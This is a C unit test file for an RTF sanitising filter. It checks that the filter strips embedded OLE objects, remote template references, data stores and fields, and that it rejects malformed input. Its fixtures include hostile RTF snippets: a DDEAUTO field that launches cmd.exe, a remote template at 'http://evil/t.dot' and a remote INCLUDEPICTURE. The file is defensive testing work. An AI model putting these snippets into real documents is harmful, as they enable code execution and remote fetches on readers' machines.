@@ -1,0 +1,229 @@
+/*
+ * NAME
+ *   test_rtf - the RTF disarm filter (filters/f_rtf.c), in process
+ *
+ * DESCRIPTION
+ *   Rows of small RTF documents, one per dangerous construct, built here;
+ *   each says which control words must be gone, which text must stay and
+ *   which note must appear, or that the document is rejected.  Real
+ *   samples (oletools rtfobj, the 2 MB RTF specification, ClamAV's
+ *   clam.exe.rtf) must lose every \object/\objdata and parse again to the
+ *   same bytes (idempotence).
+ */
+#include <string.h>
+
+#include "f_rtf.h"
+#include "testutil.h"
+
+static const mk_wopts opts = { .max_output = 64 * 1024 * 1024 };
+
+/* Is WORD present as a real control word (an odd run of backslashes)? */
+static bool has_word(const char *s, gsize len, const char *word)
+{
+	gsize wl = strlen(word);
+	for (gsize i = 0; i + wl + 1 <= len; i++) {
+		if (s[i] != '\\' || memcmp(s + i + 1, word, wl) != 0)
+			continue;
+		if (i + 1 + wl < len && g_ascii_isalpha(s[i + 1 + wl]))
+			continue;
+		gsize n = 0;
+		while (n < i && s[i - 1 - n] == '\\')
+			n++;
+		if (n % 2 == 0)
+			return true;
+	}
+	return false;
+}
+
+static int run(const char *in, gsize len, GString **out, GPtrArray *notes,
+               mk_error *err)
+{
+	GBytes *b = g_bytes_new(in, len), *o = NULL;
+	char *type = NULL;
+	int rc = mk_wfilter_rtf.run(b, &opts, &o, &type, notes, err);
+	*out = NULL;
+	if (rc == 0) {
+		ck_assert_str_eq(type, "text/rtf");
+		gsize n = 0;
+		const char *d = g_bytes_get_data(o, &n);
+		*out = g_string_new_len(d, (gssize)n);
+	}
+	g_bytes_unref(b);
+	g_bytes_unref(o);
+	g_free(type);
+	return rc;
+}
+
+static bool notes_have(GPtrArray *notes, const char *sub)
+{
+	for (guint i = 0; i < notes->len; i++)
+		if (strstr(notes->pdata[i], sub))
+			return true;
+	return false;
+}
+
+static const struct row {
+	const char *name, *in;
+	int rc;                  /* expected return */
+	const char *gone[3];     /* control words that must not survive */
+	const char *kept;        /* text that must survive */
+	const char *note;        /* substring of a note */
+} rows[] = {
+	{ "object", "{\\rtf1 a{\\object\\objemb{\\*\\objclass Package}"
+	  "{\\*\\objdata 0105000002}{\\result {\\pict x}}}b}", 0,
+	  { "object", "objdata", "objclass" }, "a", "\\object" },
+	{ "objdata-late", "{\\rtf1 x{\\b bold \\objdata 01050000}y}", 0,
+	  { "objdata" }, "y}", "objdata" },
+	{ "objocx", "{\\rtf1 {\\objocx\\objw10 ab}ok}", 0,
+	  { "objocx", "objw" }, "ok", "objocx" },
+	{ "template", "{\\rtf1 {\\*\\template http://evil/t.dot}text}", 0,
+	  { "template" }, "text", "template" },
+	{ "datastore", "{\\rtf1 {\\*\\datastore 0105000002000000}z}", 0,
+	  { "datastore" }, "z", "datastore" },
+	{ "unknown-ignorable", "{\\rtf1 {\\*\\zzfoo evil}{\\*\\generator G;}t}",
+	  0, { "zzfoo" }, "\\generator G;", "zzfoo" },
+	{ "themedata", "{\\rtf1 {\\*\\themedata 504b0304}k}", 0,
+	  { "themedata" }, "k", "themedata" },
+	{ "dde-field", "{\\rtf1 {\\field{\\*\\fldinst DDEAUTO c:\\\\windows"
+	  "\\\\system32\\\\cmd.exe \"/k calc\"}{\\fldrslt shown}}}", 0,
+	  { "fldinst" }, "shown", "fldinst" },
+	{ "dde-split-hex", "{\\rtf1 {\\field{\\*\\fldinst {\\'44}{DE}AUTO x}"
+	  "{\\fldrslt r}}}", 0, { "fldinst" }, "r", "fldinst" },
+	{ "includepicture", "{\\rtf1 {\\field{\\*\\fldinst  INCLUDEPICTURE "
+	  "\"http://x/a.png\" \\\\d}{\\fldrslt p}}}", 0, { "fldinst" }, "p",
+	  "fldinst" },
+	{ "safe-field", "{\\rtf1 {\\field{\\*\\fldinst PAGE }{\\fldrslt 1}}}",
+	  0, { NULL }, "\\fldinst PAGE", NULL },
+	{ "bin-in-object", "{\\rtf1 {\\object\\bin4 {}}\\objdata}ok}", 0,
+	  { "object", "objdata" }, "ok", "object" },
+	{ "bin-kept", "{\\rtf1 {\\pict\\bin3 a}b}c}", 0, { NULL },
+	  "\\bin3 a}b}c", NULL },
+	{ "escaped-braces", "{\\rtf1 \\{\\objdata\\} x}", MK_ERR_DATA,
+	  { NULL }, NULL, NULL },
+	{ "root-objdata", "{\\rtf1 \\objdata 0105}", MK_ERR_DATA, { NULL },
+	  NULL, NULL },
+	{ "unbalanced-open", "{\\rtf1 {\\b x}", MK_ERR_DATA, { NULL }, NULL,
+	  NULL },
+	{ "unbalanced-close", "{\\rtf1 x}}", 0, { NULL }, "x", "after" },
+	{ "not-rtf", "hello {\\rtf1 x}", MK_ERR_DATA, { NULL }, NULL, NULL },
+	{ "long-word", "{\\rtf1 \\aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa x}",
+	  MK_ERR_DATA, { NULL }, NULL, NULL },
+	{ "bin-past-end", "{\\rtf1 {\\pict\\bin999 ab}}", MK_ERR_DATA,
+	  { NULL }, NULL, NULL },
+	{ "trailing-slash", "{\\rtf1 x\\", MK_ERR_DATA, { NULL }, NULL, NULL },
+};
+
+START_TEST(test_rows)
+{
+	const struct row *r = &rows[_i];
+	GPtrArray *notes = g_ptr_array_new_with_free_func(g_free);
+	mk_error err = { 0 };
+	GString *out = NULL;
+	int rc = run(r->in, strlen(r->in), &out, notes, &err);
+
+	ck_assert_msg(rc == r->rc, "%s: rc %d (%s), want %d", r->name, rc,
+	              err.msg, r->rc);
+	if (rc == 0) {
+		for (int k = 0; k < 3 && r->gone[k]; k++)
+			ck_assert_msg(!has_word(out->str, out->len, r->gone[k]),
+			              "%s: \\%s left in %s", r->name, r->gone[k],
+			              out->str);
+		if (r->kept)
+			ck_assert_msg(strstr(out->str, r->kept), "%s: lost '%s': %s",
+			              r->name, r->kept, out->str);
+		if (r->note)
+			ck_assert_msg(notes_have(notes, r->note), "%s: no note %s",
+			              r->name, r->note);
+		else
+			ck_assert_msg(notes->len == 0, "%s: note %s", r->name,
+			              (char *)notes->pdata[0]);
+		g_string_free(out, TRUE);
+	}
+	g_ptr_array_unref(notes);
+}
+END_TEST
+
+START_TEST(test_depth)
+{
+	GString *in = g_string_new("{\\rtf1 ");
+	for (int i = 0; i < MK_RTF_MAX_DEPTH + 5; i++)
+		g_string_append_c(in, '{');
+	for (int i = 0; i < MK_RTF_MAX_DEPTH + 5; i++)
+		g_string_append_c(in, '}');
+	g_string_append_c(in, '}');
+	GPtrArray *notes = g_ptr_array_new_with_free_func(g_free);
+	mk_error err = { 0 };
+	GString *out = NULL;
+	ck_assert_int_eq(run(in->str, in->len, &out, notes, &err), MK_ERR_DATA);
+	ck_assert_ptr_nonnull(strstr(err.msg, "nesting"));
+	g_string_free(in, TRUE);
+	g_ptr_array_unref(notes);
+}
+END_TEST
+
+START_TEST(test_output_limit)
+{
+	const char *in = "{\\rtf1 0123456789012345678901234567890123456789}";
+	GString *out = NULL;
+	GPtrArray *notes = g_ptr_array_new_with_free_func(g_free);
+	mk_error err = { 0 };
+	ck_assert_int_eq(mk_rtf_rebuild(in, strlen(in), 20, &out, notes, &err),
+	                 MK_ERR_LIMIT);
+	ck_assert_ptr_null(out);
+	g_ptr_array_unref(notes);
+}
+END_TEST
+
+static const struct sample {
+	const char *path;        /* under $MK_SHARED or absolute */
+	bool had_object;
+} samples[] = {
+	{ "corpora/oletools/rtfobj/issue_251.rtf", true },
+	{ "corpora/oletools/msodde/RTF-Spec-1.7.rtf", false },
+	{ "/usr/share/clamav-testfiles/clam.exe.rtf", true },
+};
+
+START_TEST(test_samples)
+{
+	const struct sample *s = &samples[_i];
+	char *path = s->path[0] == '/' ? g_strdup(s->path)
+	                               : mkt_shared_path(s->path);
+	GBytes *in = mkt_read(path);
+	gsize len = 0;
+	const char *d = g_bytes_get_data(in, &len);
+	GPtrArray *notes = g_ptr_array_new_with_free_func(g_free);
+	GPtrArray *notes2 = g_ptr_array_new_with_free_func(g_free);
+	mk_error err = { 0 };
+	GString *out = NULL, *again = NULL;
+
+	ck_assert_msg(has_word(d, len, "object") == s->had_object, "%s", path);
+	ck_assert_msg(run(d, len, &out, notes, &err) == 0, "%s: %s", path,
+	              err.msg);
+	ck_assert(!has_word(out->str, out->len, "object"));
+	ck_assert(!has_word(out->str, out->len, "objdata"));
+	ck_assert(!has_word(out->str, out->len, "objocx"));
+	ck_assert(s->had_object == notes_have(notes, "\\object"));
+	ck_assert_msg(run(out->str, out->len, &again, notes2, &err) == 0, "%s",
+	              err.msg);
+	ck_assert(g_string_equal(out, again));
+	ck_assert_uint_eq(notes2->len, 0);
+	g_string_free(out, TRUE);
+	g_string_free(again, TRUE);
+	g_ptr_array_unref(notes);
+	g_ptr_array_unref(notes2);
+	g_bytes_unref(in);
+	g_free(path);
+}
+END_TEST
+
+int main(void)
+{
+	Suite *s = suite_create("rtf");
+	TCase *tc = tcase_create("rtf");
+	tcase_add_loop_test(tc, test_rows, 0, G_N_ELEMENTS(rows));
+	tcase_add_test(tc, test_depth);
+	tcase_add_test(tc, test_output_limit);
+	tcase_add_loop_test(tc, test_samples, 0, G_N_ELEMENTS(samples));
+	suite_add_tcase(s, tc);
+	return mkt_run(s);
+}
